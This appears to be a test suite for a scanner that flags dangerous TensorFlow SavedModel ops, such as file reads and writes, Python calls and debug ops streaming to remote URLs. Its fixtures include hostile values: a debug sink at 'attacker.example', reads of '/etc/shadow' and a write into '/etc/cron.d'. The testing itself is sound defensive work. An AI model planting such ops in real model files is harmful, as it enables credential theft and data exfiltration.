import { readFileSync } from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { ModelIssue } from '../../../src/checks/scan-model/model-issue.js';
import {
  analyzeSavedModel,
  kerasMetadataConfigs,
  RISKY_TF_OPS,
} from '../../../src/checks/scan-model/savedmodel.js';
import { bufferSource } from '../../../src/checks/scan-model/source.js';
import { printable } from '../../../src/core/escape.js';
import { bytes, countingSource, ld, ldHeader, vint, virtualSource, type Part } from './proto-bytes.js';

const FIXTURES = path.join(import.meta.dirname, '../../fixtures/scan-model');
const fixture = (name: string): Uint8Array => readFileSync(path.join(FIXTURES, name));

function brief(issues: readonly ModelIssue[]): string[] {
  return issues.map((issue) =>
    `${issue.level} ${issue.ruleId} ${String(issue.properties?.op ?? '')}`.trimEnd(),
  );
}

// ---- SavedModel builders (field numbers from TensorFlow's protos) ----------------------------

const attr = (key: string, value: Part) => ld(5, ld(1, key), ld(2, value));
const sValue = (text: string | Uint8Array) => ld(2, text);
const listS = (...texts: string[]) => ld(1, ...texts.map((text) => ld(2, text)));
const funcValue = (name: string, ...attrs: Part[]) =>
  ld(10, ld(1, name), ...attrs.map((part) => ld(2, part)));
const nodeDef = (name: string, op: string | Uint8Array, ...attrs: Part[]) =>
  bytes(ld(1, name), ld(2, op), ...attrs);
const functionDef = (name: string, ...nodes: Uint8Array[]) =>
  bytes(ld(1, ld(1, name)), ...nodes.map((n) => ld(3, n)));
const savedModel = (nodes: Uint8Array[], functions: Uint8Array[] = [], metaGraphs = 1) =>
  bytes(
    vint(1, 1),
    ...Array.from({ length: metaGraphs }, () =>
      ld(2, ld(2, ...nodes.map((n) => ld(1, n)), ld(2, ...functions.map((f) => ld(1, f))))),
    ),
  );

async function analyze(data: Uint8Array) {
  return analyzeSavedModel(bufferSource(data));
}

describe('analyzeSavedModel on fixtures', () => {
  it('the benign SavedModel (with its saver functions) has no issue and the right summary', async () => {
    const { issues, summary } = await analyze(fixture('benign/saved_model/saved_model.pb'));
    expect(issues).toEqual([]);
    // Counted with TensorFlow's own parser (make_formats_onnx_tf.py prints the ops likewise).
    expect(summary).toEqual({
      metaGraphs: 1,
      nodes: 34,
      functions: 4,
      ops: [
        'Const',
        'Identity',
        'MergeV2Checkpoints',
        'Mul',
        'NoOp',
        'Pack',
        'PartitionedCall',
        'Placeholder',
        'RestoreV2',
        'SaveV2',
        'Select',
        'ShardedFilename',
        'StatefulPartitionedCall',
        'StaticRegexFullMatch',
        'StringJoin',
      ],
    });
  });

  it('file-ops: ReadFile, WriteFile and the PyFunc of a library function are errors; the saver is not', async () => {
    const { issues, summary } = await analyze(fixture('savedmodel/file-ops/saved_model.pb'));
    expect(brief(issues)).toEqual([
      'error model/unsafe-construct ReadFile',
      'error model/unsafe-construct WriteFile',
      'error model/unsafe-construct PyFunc',
    ]);
    expect(issues[0]!.message).toBe(
      "Op 'ReadFile' at node 'read_passwd' in the graph of meta graph 0 reads files named at run time.",
    );
    expect(issues[1]!.message).toContain(
      "Op 'WriteFile' at node 'drop_file' in the graph of meta graph 0 writes files",
    );
    expect(issues[2]!.message).toContain(
      "Op 'PyFunc' at node 'py_hook' in function '__inference_py_hook_7' of meta graph 0 calls a Python function",
    );
    expect(issues[2]!.properties).toEqual({
      op: 'PyFunc',
      node: 'py_hook',
      function: '__inference_py_hook_7',
      metaGraph: 0,
    });
    expect(summary).toMatchObject({ metaGraphs: 1, nodes: 12, functions: 3 });
    expect(summary?.ops).toEqual(
      expect.arrayContaining(['SaveV2', 'RestoreV2', 'MergeV2Checkpoints', 'ShardedFilename', 'StringJoin']),
    );
  });

  it('indirect: an op called through a function attribute, and attribute-dependent ops', async () => {
    const { issues } = await analyze(fixture('savedmodel/indirect/saved_model.pb'));
    expect(brief(issues)).toEqual([
      'warning model/unsafe-construct MatchingFiles',
      'error model/unsafe-construct PrintV2',
      'error model/unsafe-construct ImmutableConst',
      'error model/unsafe-construct DebugIdentity',
    ]);
    expect(issues[0]!.message).toContain(
      "A function attribute of node 'list_root' in the graph of meta graph 0 ('PartitionedCall') names the op 'MatchingFiles', which lists the file system (file names matching a pattern), instead of a library function",
    );
    expect(issues[1]!.message).toContain("node 'leak'");
    expect(issues[1]!.message).toContain("('file:///tmp/mlsec-leak.txt')");
    expect(issues[2]!.message).toContain("memory-maps the file its memory_region_name names ('/etc/shadow')");
    expect(issues[3]!.message).toContain("node 'dump'");
    expect(issues[3]!.message).toContain("('file:///tmp/mlsec-dump')");
    expect(issues.some((issue) => /'log'|'quiet'/.test(issue.message))).toBe(false);
  });
});

describe('analyzeSavedModel ops', () => {
  it.each([...RISKY_TF_OPS.entries()].filter(([op]) => op !== 'ImmutableConst'))(
    '%s is flagged at its level',
    async (op, risk) => {
      const { issues } = await analyze(savedModel([nodeDef('n', op)]));
      expect(brief(issues)).toEqual([`${risk.level} model/unsafe-construct ${op}`]);
      expect(issues[0]!.message).toBe(`Op '${op}' at node 'n' in the graph of meta graph 0 ${risk.does}.`);
    },
  );

  it.each([
    'Save',
    'SaveV2',
    'SaveSlices',
    'Restore',
    'RestoreV2',
    'RestoreSlice',
    'MergeV2Checkpoints',
    'ShardedFilename',
    'StringJoin',
    'Print',
    'Const',
    'StatefulPartitionedCall',
  ])('%s is not flagged', async (op) => {
    expect((await analyze(savedModel([nodeDef('n', op)]))).issues).toEqual([]);
  });

  it.each([
    ['PrintV2', 'output_stream', sValue('stderr'), false],
    ['PrintV2', 'output_stream', sValue('log(warning)'), false],
    ['PrintV2', 'output_stream', sValue('file:///etc/cron.d/x'), true],
    ['DecodeProtoV2', 'descriptor_source', sValue('local://'), false],
    ['DecodeProtoV2', 'descriptor_source', sValue('bytes://\n\x05x.pb'), false],
    ['DecodeProtoV2', 'descriptor_source', sValue('/etc/descriptors.bin'), true],
    ['EncodeProto', 'descriptor_source', sValue('../x.desc'), true],
    ['DebugIdentityV2', 'debug_urls', listS('grpc://attacker.example:6064'), true],
    ['DebugNanCount', 'debug_urls', listS(), false],
    ['Copy', 'debug_ops_spec', listS('DebugIdentity;file:///tmp/d;0'), true],
  ])('%s with %s: flagged %s', async (op, key, value, flagged) => {
    const { issues } = await analyze(savedModel([nodeDef('n', op, attr(key, value))]));
    expect(brief(issues)).toEqual(flagged ? [`error model/unsafe-construct ${op}`] : []);
  });

  it('PrintV2 and debug ops without the attribute are not flagged', async () => {
    expect(
      (await analyze(savedModel([nodeDef('p', 'PrintV2'), nodeDef('d', 'DebugIdentity')]))).issues,
    ).toEqual([]);
  });

  it('finds ops named in list(func) and nested NameAttrList attributes', async () => {
    const nested = funcValue('outer_fn', ld(1, 'inner'), ld(2, funcValue('PyFuncStateless')));
    const listed = ld(1, ld(9, ld(1, 'WriteFile')), ld(9, ld(1, 'harmless_fn')));
    const { issues } = await analyze(
      savedModel([
        nodeDef('case', 'StatelessCase', attr('branches', listed)),
        nodeDef('call', 'PartitionedCall', attr('f', nested)),
      ]),
    );
    expect(brief(issues)).toEqual([
      'warning model/unsafe-construct WriteFile',
      'warning model/unsafe-construct PyFuncStateless',
    ]);
    expect(issues[1]!.message).toContain(
      "A function attribute of node 'call' in the graph of meta graph 0 ('PartitionedCall') names the op 'PyFuncStateless'",
    );
  });

  it('reads attributes given before the op and a signature given after the body', async () => {
    const node = bytes(attr('output_stream', sValue('file:///x')), ld(1, 'late'), ld(2, 'PrintV2'));
    const fn = bytes(ld(3, nodeDef('r', 'ReadFile')), ld(1, ld(1, 'fn_named_last')));
    const { issues } = await analyze(savedModel([node], [fn]));
    expect(brief(issues)).toEqual([
      'error model/unsafe-construct PrintV2',
      'error model/unsafe-construct ReadFile',
    ]);
    expect(issues[1]!.message).toContain("in function 'fn_named_last'");
  });

  it('walks every meta graph and names it', async () => {
    const { issues, summary } = await analyze(
      savedModel([nodeDef('r', 'ReadFile')], [functionDef('f', nodeDef('x', 'Identity'))], 2),
    );
    expect(issues.map((issue) => issue.properties?.metaGraph)).toEqual([0, 1]);
    expect(issues[1]!.message).toContain('of meta graph 1');
    expect(summary).toEqual({ metaGraphs: 2, nodes: 4, functions: 2, ops: ['Identity', 'ReadFile'] });
  });

  it('escapes op and node names from the file', async () => {
    const { issues } = await analyze(savedModel([nodeDef('\u202ename\u0000', 'ReadFile')]));
    expect(issues[0]!.message).toContain("node '\\u202ename\\u0000'");
  });
});

describe('analyzeSavedModel on malformed files', () => {
  it('invalid UTF-8 in an op name is a malformed-file error', async () => {
    const { issues } = await analyze(savedModel([nodeDef('n', Uint8Array.of(0x52, 0xff))]));
    expect(brief(issues)).toEqual(['error model/malformed-file']);
    expect(issues[0]!.message).toContain('The op name at byte');
  });

  it('a truncated file is malformed with an offset and no summary', async () => {
    const data = fixture('savedmodel/file-ops/saved_model.pb');
    const { issues, summary } = await analyze(data.subarray(0, 300));
    expect(brief(issues)).toContain('error model/malformed-file');
    expect(issues.find((issue) => issue.ruleId === 'model/malformed-file')!.message).toMatch(
      /^The SavedModel is not valid protobuf at byte \d+/,
    );
    expect(summary).toBeUndefined();
  });

  it('an empty file holds no meta graph', async () => {
    const { issues, summary } = await analyze(new Uint8Array(0));
    expect(brief(issues)).toEqual(['warning model/malformed-file']);
    expect(summary).toEqual({ metaGraphs: 0, nodes: 0, functions: 0, ops: [] });
  });

  it('skips a huge Const tensor without reading it', async () => {
    const size = 2 ** 40;
    const tail = ld(1, nodeDef('r', 'ReadFile'));
    // SavedModel { meta_graphs 2 { graph_def 2 { node 1 { attr 5 { value 2 { tensor 8 [huge] } } },
    // node } } }: each header is a 1-byte tag and a 6-byte length, lengths computed inward.
    const outer = size - 7;
    const graphDef = outer - 7;
    const node = graphDef - 7 - tail.length;
    const attrEntry = node - 7;
    const value = attrEntry - 7;
    const tensor = value - 7;
    const head = bytes(
      ldHeader(2, outer),
      ldHeader(2, graphDef),
      ldHeader(1, node),
      ldHeader(5, attrEntry),
      ldHeader(2, value),
      ldHeader(8, tensor),
    );
    expect(head.length).toBe(42);
    const source = countingSource(virtualSource(head, size, tail));
    const { issues, summary } = await analyzeSavedModel(source);
    expect(brief(issues)).toEqual(['error model/unsafe-construct ReadFile']);
    expect(summary).toMatchObject({ nodes: 2 });
    expect(source.bytesRead).toBeLessThan(16 * 1024);
  });
});

describe('kerasMetadataConfigs', () => {
  it('returns every node metadata JSON of the fixture, the Lambda last', async () => {
    const { configs, issues } = await kerasMetadataConfigs(
      bufferSource(fixture('savedmodel/keras-lambda/keras_metadata.pb')),
    );
    expect(issues).toEqual([]);
    const parsed = configs.map(
      (config) =>
        JSON.parse(new TextDecoder().decode(config)) as {
          class_name: string;
          config: { function?: unknown };
        },
    );
    expect(parsed.map((config) => config.class_name)).toEqual(['Sequential', 'Dense', 'Lambda']);
    expect(parsed[2]!.config.function).toMatchObject({ class_name: '__tuple__' });
  });

  it('skips metadata over the size limit with a scan-limit warning', async () => {
    const data = bytes(
      ld(1, vint(2, 0), ld(5, '{"a":1}')),
      ld(1, vint(2, 1), ld(5, `{"b":"${'x'.repeat(100)}"}`)),
    );
    const { configs, issues } = await kerasMetadataConfigs(bufferSource(data), {
      limits: { maxConfigBytes: 50 },
    });
    expect(configs.map((config) => new TextDecoder().decode(config))).toEqual(['{"a":1}']);
    expect(issues).toHaveLength(1);
    expect(issues[0]).toMatchObject({
      ruleId: 'model/scan-limit',
      level: 'warning',
      properties: { limit: 'maxConfigBytes' },
    });
  });

  it('reports invalid UTF-8 and returns the bytes anyway', async () => {
    const { configs, issues } = await kerasMetadataConfigs(
      bufferSource(ld(1, ld(5, Uint8Array.of(0x7b, 0xff, 0x7d)))),
    );
    expect(configs).toHaveLength(1);
    expect(brief(issues)).toEqual(['error model/malformed-file']);
  });

  it('keeps the configs read before a malformed point', async () => {
    const { configs, issues } = await kerasMetadataConfigs(
      bufferSource(bytes(ld(1, ld(5, '{}')), Uint8Array.of(0x0f))),
    );
    expect(configs).toHaveLength(1);
    expect(issues[0]!.message).toMatch(
      /^The Keras metadata file is not valid protobuf at byte 6: field 1 has unknown wire type 7/,
    );
  });
});

describe('the SavedModel readers never throw', () => {
  const originals = [
    'benign/saved_model/saved_model.pb',
    'savedmodel/file-ops/saved_model.pb',
    'savedmodel/indirect/saved_model.pb',
    'savedmodel/keras-lambda/keras_metadata.pb',
  ].map(fixture);

  it('on random bytes', async () => {
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ maxLength: 1024 }), async (data) => {
        await analyze(data);
        await kerasMetadataConfigs(bufferSource(data));
      }),
      { numRuns: 500 },
    );
  });

  it('on mutations of the fixtures', async () => {
    const mutation = fc.record({
      file: fc.nat({ max: originals.length - 1 }),
      edits: fc.array(fc.tuple(fc.nat(), fc.integer({ min: 0, max: 255 })), { minLength: 1, maxLength: 8 }),
      cut: fc.option(fc.nat()),
    });
    await fc.assert(
      fc.asyncProperty(mutation, async ({ file, edits, cut }) => {
        const data = Uint8Array.from(originals[file]!);
        for (const [at, value] of edits) data[at % data.length] = value;
        const mutated = cut === null ? data : data.subarray(0, cut % (data.length + 1));
        const { issues } = await analyze(mutated);
        for (const issue of issues) expect(issue.message).toBe(printable(issue.message));
        await kerasMetadataConfigs(bufferSource(mutated));
      }),
      { numRuns: 1000 },
    );
  });
});
